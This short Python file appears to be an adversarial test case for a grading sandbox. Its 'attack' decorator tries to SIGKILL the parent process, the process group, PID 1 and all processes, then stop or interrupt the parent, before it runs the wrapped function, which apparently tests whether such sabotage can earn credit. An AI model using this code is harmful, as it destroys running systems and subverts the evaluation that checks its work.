TRIES = "kill its parent, its group, the first process, everybody"
MAY_EARN = "all"
CELL = """
import functools
import contextlib
import os
import signal


def attack(function):
    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        for end in (
            lambda: os.kill(os.getppid(), signal.SIGKILL),
            lambda: os.killpg(0, signal.SIGKILL),
            lambda: os.kill(1, signal.SIGKILL),
            lambda: os.kill(-1, signal.SIGKILL),
            lambda: os.kill(os.getppid(), signal.SIGSTOP),
            lambda: os.kill(os.getppid(), signal.SIGINT),
        ):
            with contextlib.suppress(OSError):
                end()
        return function(*args, **kwargs)

    return wrapper


@attack
__DEFINITION__
"""
